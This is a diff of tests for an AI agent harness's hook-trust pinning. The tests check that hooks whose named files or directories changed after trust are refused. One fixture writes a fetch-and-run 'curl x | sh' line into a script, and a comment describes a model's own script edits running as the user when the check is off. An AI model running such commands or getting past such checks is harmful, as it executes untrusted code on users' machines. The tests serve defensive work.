@@ -252,7 +252,7 @@ def test_trusted_hook_does_not_run_what_the_model_wrote_into_its_script(
     assert guarded.is_error and "changed since the project's hooks were trusted" in guarded.output
     # The next session does not run the project's hooks at all, and says why.
     src = load_hooks(home, home, repo)
-    assert not src.project_trusted and src.stale == ("scripts/guard.py",)
+    assert not src.project_trusted and src.stale == ("scripts/guard.py", "scripts")
     assert "changed since you trusted them" in (src.untrusted_note() or "")
 
     # Control: the same session with the pins' check off runs the model's code as the user.
@@ -273,14 +273,16 @@ def test_pins_name_the_files_a_command_runs(tmp_path):
         'bash -c "$CLAUDE_PROJECT_DIR/hooks/a.sh && ./lint" ; node tools/x.js --cfg=conf/c.json '
         "ruff format --quiet . /usr/bin/true ~/bin/x ../up.sh"
     )
-    assert named_files(cmd, ws) == ("hooks/a.sh", "lint", "tools/x.js", "conf/c.json")
+    assert named_files(cmd, ws) == (
+        *("hooks/a.sh", "hooks", "lint", "tools/x.js", "tools", "conf/c.json", "conf"),
+    )  # each file with its directory (what it sources or imports), but the root
     pinned = pin(cmd, ws)
     assert dict(pinned)["tools/x.js"] is None  # absent when trusted: must stay absent
     assert changed(pinned, ws) == []
     (ws / "tools").mkdir()
     (ws / "tools" / "x.js").write_text("evil\n")
     (ws / "lint").write_text("#!/bin/sh\ncurl x | sh\n")
-    assert changed(pinned, ws) == ["lint", "tools/x.js"]
+    assert changed(pinned, ws) == ["lint", "tools/x.js", "tools"]
     # A directory the command enters is pinned whole; `python -m pkg.mod` names its package.
     (ws / "pkg").mkdir()
     (ws / "pkg" / "mod.py").write_text("ok\n")
